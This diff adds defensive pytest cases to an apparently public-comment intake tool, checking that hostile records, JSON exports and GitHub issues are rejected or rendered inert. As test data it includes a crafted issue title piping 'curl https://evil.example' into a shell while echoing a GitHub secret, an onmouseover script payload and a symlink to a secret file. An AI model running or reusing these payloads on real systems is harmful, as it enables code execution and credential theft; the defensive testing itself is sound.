@@ -1,20 +1,24 @@
 """Hostile input through every channel and every shown field: rejected with a reason, or inert.
 
-The issue channel's own cases (a hostile issue, a malformed one, a duplicate delivery, an edited
-one) are in test_intake_github.py; this suite covers hand-written records, form exports, every
-field a page shows, and the workflows.
+More issue-channel cases (a hostile body, a malformed issue, an edited one) are in
+test_intake_github.py; this suite covers hand-written records, form exports (CSV and JSON), a
+crafted issue title delivered twice, every field a page shows, and the workflows.
 """
 
 from __future__ import annotations
 
 import csv
 import hashlib
+import json
 import re
+import shutil
 from pathlib import Path
 
 import pytest
 import yaml
 from conftest import REPO, Repo, rayzani, today
+from forge_server import FakeGitHub
+from test_intake_github import comment_issue, intake
 
 from rayzani.builder import load_project, write_pages
 
@@ -32,7 +36,7 @@ ATTACKS = {
     "bidi override": "invoice\u202efdp.exe and \u2066isolated\u2069",
     "zero width": "pay\u200bpal\u200d\ufeff",
     "deep nesting": "> " * 500 + "deep",
-    "nested lists": "".join("  " * i + "- x\n" for i in range(200)),
+    "nested lists": "".join("  " * i + "- x\n" for i in range(130)),  # within the 20,000 limit
 }
 
 
@@ -188,3 +192,105 @@ def test_no_workflow_interpolates_event_text_into_a_script():
                 script = step.get("run") or ""
                 assert not re.search(r"\$\{\{\s*github\.event\.", script), f"{path.name}: {step.get('name')}"
                 assert not re.search(r"\$\{\{\s*(github\.head_ref|inputs\.)", script), path.name
+
+
+def problems_of(repo: Repo) -> list[str]:
+    return [p.format(repo.root) for p in load_project(repo.root, today()).problems]
+
+
+def test_a_huge_hand_written_comment_is_rejected_with_its_length(repo):
+    original = (repo.root / "submissions/sample/c1.yml").read_text(encoding="utf-8")
+    huge = "body: " + "ن" * 1_000_000 + "\n"
+    repo.write("submissions/sample/c1.yml", re.sub(r"^body: .*$", huge.strip(), original, flags=re.M))
+    found = problems_of(repo)
+    assert any(
+        line.startswith("submissions/sample/c1.yml") and "1000000 characters long, more than 20000" in line
+        for line in found
+    ), found
+
+
+def test_a_record_linked_to_a_file_outside_its_folder_is_not_read(repo, tmp_path):
+    secret = tmp_path / "secret.yml"
+    secret.write_text("password: hunter2-do-not-echo\n", encoding="utf-8")
+    (repo.root / "submissions/sample/c9.yml").symlink_to(secret)
+    found = problems_of(repo)
+    assert any(
+        line.startswith("submissions/sample/c9.yml") and "is not a plain file" in line for line in found
+    )
+    assert "hunter2" not in "\n".join(found)
+
+
+def test_a_hand_written_comment_after_the_period_must_say_it_is_late_and_is_then_shown_as_late(repo):
+    original = (repo.root / "submissions/sample/c1.yml").read_text(encoding="utf-8")
+    # 00:30 on 2 December in Tehran is still 1 December in UTC: the Iranian day counts.
+    after = original.replace("received: 2026-11-05T10:00:00+03:30", "received: 2026-12-02T00:30:00+03:30")
+    repo.write("submissions/sample/c1.yml", after)
+    found = problems_of(repo)
+    assert any(
+        "late: is missing: the comment arrived after the period closed on 2026-12-01" in f for f in found
+    )
+    repo.write("submissions/sample/c1.yml", after + "late: true\n")
+    project = load_project(repo.root, today())
+    assert project.problems == []
+    write_pages(project, today())
+    for lang, word in (("fa", "دیررس"), ("en", "late")):
+        page = (repo.root / f"build/docs/drafts/sample/comments/art-1/index.{lang}.md").read_text("utf-8")
+        start = page.index('id="c-c1"')
+        assert f'class="rz-late">{word}<' in page[start : page.index("</article>", start)]
+
+
+def test_hostile_json_export_is_recorded_inert_and_a_malformed_one_changes_nothing(repo, capsys):
+    rows = [
+        {"row_id": 1, "submitted_at": "2026-11-12 10:00:00", "draft": "sample", "article": "art-1",
+         "comment": f"نظر {ATTACKS['reference link']} {ATTACKS['event attribute']}",
+         "display_name": "<b onmouseover=alert(1)>Ali</b>", "publish_name": "yes",
+         "respondent_type": "individual", "age_band": None, "extra": {"nested": [1, 2]}},
+    ]  # fmt: skip
+    export = repo.root.parent / "export.json"
+    export.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
+    before = snapshot(repo.root)
+    assert rayzani(["--root", str(repo.root), "intake", "form", str(export)]) == 0
+    capsys.readouterr()
+    after = snapshot(repo.root)
+    new = set(after) - set(before)
+    assert {k for k in before if after.get(k) != before[k]} == set() and len(new) == 1, new
+    project = load_project(repo.root, today())
+    assert project.problems == []
+    write_pages(project, today())
+    record_id = Path(next(iter(new))).stem
+    page = (repo.root / "build/docs/drafts/sample/comments/art-1/index.en.md").read_text("utf-8")
+    start = page.index(f'id="c-{record_id}"')
+    assert_inert(page[start : page.index("</article>", start)])
+
+    export.write_text('{"a": [1], "b": [2]}', encoding="utf-8")
+    before = snapshot(repo.root)
+    assert rayzani(["--root", str(repo.root), "intake", "form", str(export)]) != 0
+    report = capsys.readouterr()
+    assert "expected a json list of objects" in (report.err + report.out).lower()
+    assert snapshot(repo.root) == before
+
+
+def test_an_issue_with_a_crafted_title_delivered_twice_gives_one_inert_record(repo, monkeypatch):
+    shutil.copytree(REPO / ".github" / "ISSUE_TEMPLATE", repo.root / ".github" / "ISSUE_TEMPLATE")
+    monkeypatch.setenv("GITHUB_TOKEN", "test-token")
+    title = 'نظر"; curl https://evil.example | sh; echo "${{ secrets.GITHUB_TOKEN }}'
+    with FakeGitHub("agency", "consult") as server:
+        issue = comment_issue(1, article="art-1", comment=f"نظر {ATTACKS['autolink']} {ATTACKS['iframe']}")
+        issue.title = title
+        server.add(issue)
+        before = snapshot(repo.root)
+        assert intake(repo, server) == 0
+        middle = snapshot(repo.root)
+        new = set(middle) - set(before)
+        assert new == {"submissions/sample/gh-1.yml"}
+        assert {k for k in before if middle[k] != before[k]} == set()
+        assert intake(repo, server) == 0  # the same issue delivered again
+        assert snapshot(repo.root) == middle
+    record = yaml.safe_load((repo.root / "submissions/sample/gh-1.yml").read_text(encoding="utf-8"))
+    assert "curl" not in yaml.safe_dump(record, allow_unicode=True)  # the title is never recorded
+    project = load_project(repo.root, today())
+    assert project.problems == []
+    write_pages(project, today())
+    page = (repo.root / "build/docs/drafts/sample/comments/art-1/index.fa.md").read_text("utf-8")
+    start = page.index('id="c-gh-1"')
+    assert_inert(page[start : page.index("</article>", start)])
